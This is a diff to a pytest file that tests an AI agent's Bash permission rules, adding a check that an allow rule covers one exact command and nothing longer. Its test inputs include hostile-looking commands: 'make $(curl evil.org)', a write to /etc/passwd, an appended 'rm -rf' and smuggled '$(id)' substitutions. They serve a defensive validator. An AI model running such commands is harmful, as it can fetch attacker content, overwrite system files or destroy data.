@@ -7,6 +7,7 @@ import pytest
 from agent_svc.agents.base.permissions import Verdict, decide
 from agent_svc.agents.base.tool_vocabulary import ToolCall, relative_target
 from heddle import pb
+from heddle.plan.permission_patterns import rule_for
 
 ASK, ALLOW, DENY = Verdict.ASK, Verdict.ALLOW, Verdict.DENY
 
@@ -67,6 +68,15 @@ def test_every_part_of_a_command_must_be_allowed() -> None:
     assert verdict(some, "Bash", "make $(curl evil.org)") is ASK
     assert verdict(some, "Bash", "make > /etc/passwd") is ASK
     assert verdict(some, "Bash", "") is ASK
+
+
+@pytest.mark.parametrize("command", ["make $(id) > log", "a && b", "ls *.py", "echo [x]\necho y"])
+def test_a_rule_for_a_command_allows_it_whole_and_no_other(command: str) -> None:
+    """What the operator allowed for good is allowed with all its parts; a longer command is asked about, a denied one denied."""
+    rule = rule_for("Bash", command)
+    assert verdict(policy(allow=[rule]), "Bash", command) is ALLOW
+    assert verdict(policy(allow=[rule]), "Bash", f"{command} && rm -rf x") is ASK
+    assert verdict(policy(allow=[rule], deny=["Bash"]), "Bash", command) is DENY
 
 
 def test_a_malformed_pattern_opens_nothing() -> None:
